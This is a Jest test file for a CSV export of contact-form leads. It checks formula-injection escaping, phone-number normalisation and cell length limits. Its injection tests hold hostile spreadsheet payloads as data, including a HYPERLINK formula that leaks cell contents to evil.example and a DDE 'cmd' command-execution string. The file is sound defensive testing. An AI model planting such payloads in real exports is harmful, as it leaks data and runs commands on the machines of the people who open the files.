import { expect, test } from "@jest/globals";
import { parse } from "csv-parse/sync";
import { csvHeader, csvLines, type ExportedContact } from "./csv";

const lead: ExportedContact = {
  createdAt: new Date("2026-11-21T18:35:59.999Z"),
  name: "Meera Iyer",
  email: "meera@example.in",
  phone: "9876543210",
  message: "Please call me back",
  origin: "/contact",
  noticeVersion: "2026-11",
  isSpam: false,
  cameFrom: null,
  answeredAt: null,
  answeredBy: null,
  answeredHow: null,
  notes: [],
};

const read = (file: string) => parse(file, { bom: true });
const lineOf = (name: string) => csvLines([{ ...lead, name }]);
const nameAsRead = (name: string) => read(lineOf(name))[0]![1];

test("the file begins with the mark of UTF-8 and a line of names", () => {
  expect(csvHeader()).toBe(
    '\ufeff"Received (India time)","Name","Email","Phone","Message","Sent from","Privacy notice","Marked as spam","Came from","Answered (India time)","Answered by","How","Notes"\r\n',
  );
});

test("a lead is a line, in India's time, which is of the next day", () => {
  const spam = { ...lead, origin: null, noticeVersion: null, isSpam: true };
  expect(csvLines([lead, spam])).toBe(
    '"2026-11-22 00:05","Meera Iyer","meera@example.in","9876543210","Please call me back","/contact","2026-11","no",,,,,\r\n' +
      '"2026-11-22 00:05","Meera Iyer","meera@example.in","9876543210","Please call me back",,,"yes",,,,,\r\n',
  );
  expect(csvLines([])).toBe("");
});

test("what staff added stands behind it, a note a line", () => {
  const answered = {
    ...lead,
    cameFrom: "/loans/home-loan",
    answeredAt: new Date("2026-11-22T05:00:00.000Z"),
    answeredBy: "asha",
    answeredHow: "none",
    notes: [
      { createdAt: new Date("2026-11-22T04:00:00.000Z"), authorName: "ravi", text: "=1+1\nOne" },
      { createdAt: new Date("2026-11-22T04:30:00.000Z"), authorName: "asha", text: "Two" },
    ],
  };
  expect(read(csvLines([answered]))[0]!.slice(8)).toEqual([
    "/loans/home-loan",
    "2026-11-22 10:30",
    "asha",
    "No answer needed",
    "2026-11-22 09:30 ravi: =1+1\nOne\n2026-11-22 10:00 asha: Two",
  ]);
});

test("what is in a cell ends neither the cell nor the line, for whoever reads", () => {
  const message = 'One\ntwo\r\nthree\rfour; five,\tsix "seven"';
  const file = csvHeader() + csvLines([{ ...lead, message }, lead]);
  expect(file).toContain(`,"${message.replaceAll('"', '""')}",`);
  for (const delimiter of [",", [",", ";", "\t"]]) {
    const rows = parse(file, { bom: true, delimiter, record_delimiter: ["\r\n", "\n", "\r"] });
    expect(rows.map((row) => row.length)).toEqual([13, 13, 13]);
    expect(rows[1]![4]).toBe(message);
  }
});

// OWASP, CSV injection: https://owasp.org/www-community/attacks/CSV_Injection
test.each([
  "=1+1",
  "+91 98765 43210",
  "-1+1",
  "@SUM(1)",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "﹢1+1",
  "﹣1+1",
  "﹦1+1",
  "﹫SUM(1)",
  "⁼1+1",
  "⁺1",
  `=HYPERLINK("https://evil.example?"&A1,"Open")`,
  `=cmd|' /C calc'!A0`,
])("%j has an apostrophe before it, wherever a cell may begin", (hostile) => {
  expect(nameAsRead(hostile)).toBe(`'${hostile}`);
  const spaces = [" ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", "\x01", "\v", "\f"];
  for (const unseen of [...spaces, "\u2028", "\u00ad", "\n", " \n "]) {
    expect(nameAsRead(`${unseen}${hostile}`)).toBe(`${unseen}'${hostile}`);
  }
  for (const start of [
    ";",
    ' ;";',
    "Hello;",
    "Hello; ",
    'Hello;"',
    'Hello; "" "',
    'Hello\t"',
    "Hello\n",
    "Hello\r\n\n",
    "Hello\r",
    'a";',
    "a\t",
  ]) {
    expect(nameAsRead(`${start}${hostile}`)).toBe(`${start}'${hostile}`);
  }
  // These are formulas to some by themselves.
  for (const start of ["\t", "\r", "\r\n"]) {
    expect(nameAsRead(`${start}${hostile}`)).toBe(`'${start}'${hostile}`);
  }
});

test("separated by semicolons, nothing is a formula either", () => {
  const hostile = [
    ";=1+1;",
    " ;;=1+1;",
    "x;=1+1;",
    "x\n=1+1\n",
    'x"";=1+1;"',
    '";=1+1;"',
    "x;\r\n =1+1;",
    "\n=1+1;",
  ];
  for (const name of hostile) {
    const cells = lineOf(name).split(/[;\r\n]/);
    expect(cells.length).toBeGreaterThan(2);
    for (const cell of cells) expect(cell.trim()).not.toMatch(/^"?[=+\-@]/);
  }
});

test.each([
  "Meera",
  "a=1",
  "1-2",
  "x@example.in",
  "'=1",
  "",
  " Meera",
  "ऋण",
  "😀 =1",
  "(+91) 98765",
  '"=1+1"',
  ',=1+1,"',
  'a"\r\n,=1+1,"',
  "two\nlines",
  "a\rb",
  "'",
  "\\",
  "₹5,00,000",
  "\nplain",
])("%j stays as it is, in one cell", (harmless) => {
  expect(nameAsRead(harmless)).toBe(harmless);
  expect(read(csvLines([{ ...lead, name: harmless }, lead]))).toHaveLength(2);
});

const phoneAsRead = (phone: string) => read(csvLines([{ ...lead, phone }]))[0]![3];

test.each([
  ["+919876543210", "(+91) 9876543210"],
  ["+91 98765 43210", "(+91) 98765 43210"],
  ["+91-98765-43210", "(+91) 98765-43210"],
  ["+(91) 98765-43210", "(+91) 98765-43210"],
  ["+ 91 98765 43210", "(+91) 98765 43210"],
  ["+971 50 123 4567", "(+971) 50 123 4567"],
  ["+971501234567", "(+971) 501234567"],
  ["+1 (650) 253-0000", "(+1) (650) 253-0000"],
  ["+442079460958", "(+44) 2079460958"],
  ["(+91) 98765 43210", "(+91) 98765 43210"],
  ["9876543210", "9876543210"],
  ["09876543210", "09876543210"],
  ["022-24681357/58", "022-24681357 / 58"],
  ["098765 43210 / 9123456780", "098765 43210 / 9123456780"],
  // Invisible characters, and those of other keyboards.
  ["\u202a+91 98765 43210\u202c", "(+91) 98765 43210"],
  ["\u2066\u200e+91\u00a098765\u202f43210\ufe0d", "(+91) 98765 43210"],
  ["+91\u201398765\u201143210", "(+91) 98765-43210"],
  ["+९१ ९८७६५ ४३२१०", "(+91) 98765 43210"],
  ["＋91 98765 43210", "(+91) 98765 43210"],
  // Several numbers, labels, extensions.
  ["+91 98765 43210 / +91 98111 22233", "(+91) 98765 43210 / (+91) 98111 22233"],
  ["+919876543210/+919811122233", "(+91) 9876543210 / (+91) 9811122233"],
  ["+91 98765 43210 or +91 98111 22233", "(+91) 98765 43210 or (+91) 98111 22233"],
  ["M: +91 98765 43210; O: 022 2468", "M: (+91) 98765 43210; O: 022 2468"],
  ["+91 98765 43210\n+91 98111 22233", "(+91) 98765 43210\n(+91) 98111 22233"],
  ["+91 22 2468 1357 ext 12", "(+91) 22 2468 1357 ext 12"],
  ["+91 22 2468 1357, x. #12 (office)", "(+91) 22 2468 1357, x. #12 (office)"],
  // Excel would show 9.19877E+11, -9876543210 or 98765.4321.
  ["919876543210", "(+91) 9876543210"],
  ["00919876543210", "(+91) 9876543210"],
  ["0091-98765-43210", "(+91) 98765-43210"],
  ["971501234567", "971 501234567"],
  ["(9876543210)", "9876543210"],
  ["98765.43210", "98765 43210"],
])("the phone number %j is text to every program, as %j", (phone, written) => {
  expect(phoneAsRead(phone)).toBe(written);
});

test.each([
  "+91 98765 43210;=1+1",
  "+91+1",
  "+91 98765*2",
  "+A1 98765 43210",
  "+91 98765\n-1+1",
  "+SUM(91)",
  "-91 98765 43210",
  "+91 98765 43210/+cmd",
  "\u202a=1+91 98765 43210",
])("the phone field %j is guarded like every other cell", (phone) => {
  expect(phoneAsRead(phone)).toMatch(/^\u202a?'/);
});

test("cuts a cell that is longer than Excel takes", () => {
  const notes = Array.from({ length: 20 }, (_, index) => ({
    createdAt: lead.createdAt,
    authorName: "asha",
    text: `${index} ${"क्षि".repeat(500)}`,
  }));
  const [row] = read(csvLines([{ ...lead, message: ";=".repeat(16_000), notes }]));
  for (const cell of [row![4]!, row![12]!]) {
    expect(cell.length).toBeLessThanOrEqual(32_767);
    expect(cell).toMatch(/\[cut here: .*\]$/);
  }
  expect(row![12]).toContain("क्षि… [cut");
  expect(nameAsRead("a".repeat(32_767))).toHaveLength(32_767);
  expect(nameAsRead("a".repeat(32_768))).toMatch(/\[cut here: .*\]$/);
});

test("a text of nothing but line ends takes no time", () => {
  const begun = performance.now();
  for (const unit of ["\n", ";", "; ", "\r\n", ";=", "\u200b"]) lineOf(unit.repeat(32_000));
  for (const unit of [" ", "-", "(", ")", "1"]) phoneAsRead(`+91${unit.repeat(32_000)}x`);
  expect(performance.now() - begun).toBeLessThan(1_000);
});

test("every cell that somebody typed is guarded", () => {
  const hostile = "=1+1";
  const typed = { name: hostile, email: hostile, phone: hostile, message: hostile };
  const pages = { origin: hostile, noticeVersion: hostile, cameFrom: hostile };
  const notes = [{ createdAt: lead.createdAt, authorName: "asha", text: `One\n${hostile}` }];
  const [row] = read(csvLines([{ ...lead, ...typed, ...pages, answeredBy: hostile, notes }]));
  expect(row!.slice(1, 7)).toEqual(Array(6).fill(`'${hostile}`));
  expect([row![8], row![10]]).toEqual([`'${hostile}`, `'${hostile}`]);
  expect(row![12]).toMatch(/One\n'=1\+1$/);
});
